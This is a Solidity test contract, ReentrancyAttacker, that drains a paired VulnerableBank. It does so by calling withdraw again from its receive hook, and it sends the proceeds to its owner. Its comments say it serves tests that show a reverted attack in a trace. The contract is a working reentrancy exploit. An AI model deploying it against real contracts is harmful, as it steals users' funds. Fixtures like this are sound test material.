// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {VulnerableBank} from "./VulnerableBank.sol";

/// @title ReentrancyAttacker
/// @notice Drains a VulnerableBank by re-entering `withdraw` from its receive hook. Like real attackers it
/// insists on a minimum profit and reverts otherwise, which lets tests produce a reverted attack whose
/// trace still shows the re-entry.
contract ReentrancyAttacker {
    VulnerableBank private immutable _bank;
    address private immutable _owner;
    uint256 private _maxReentries;
    uint256 private _reentries;

    error ReentrancyAttackerNotOwner(address caller);
    error ReentrancyAttackerProfitTooLow(uint256 gained, uint256 required);
    error ReentrancyAttackerPayoutFailed(uint256 amount);

    constructor(VulnerableBank bank) {
        _bank = bank;
        _owner = msg.sender;
    }

    /// @param maxReentries how many times to re-enter `withdraw` from the receive hook
    /// @param minProfit the attack reverts unless it gains at least this much on top of the stake
    function attack(uint256 maxReentries, uint256 minProfit) external payable {
        if (msg.sender != _owner) revert ReentrancyAttackerNotOwner(msg.sender);
        _maxReentries = maxReentries;
        _reentries = 0;
        _bank.deposit{value: msg.value}();
        _bank.withdraw();
        uint256 gained = address(this).balance - msg.value;
        if (gained < minProfit) revert ReentrancyAttackerProfitTooLow(gained, minProfit);
        uint256 proceeds = address(this).balance;
        // solhint-disable-next-line avoid-low-level-calls
        (bool ok, ) = _owner.call{value: proceeds}("");
        if (!ok) revert ReentrancyAttackerPayoutFailed(proceeds);
    }

    receive() external payable {
        if (_reentries < _maxReentries && address(_bank).balance >= msg.value) {
            ++_reentries;
            _bank.withdraw();
        }
    }
}
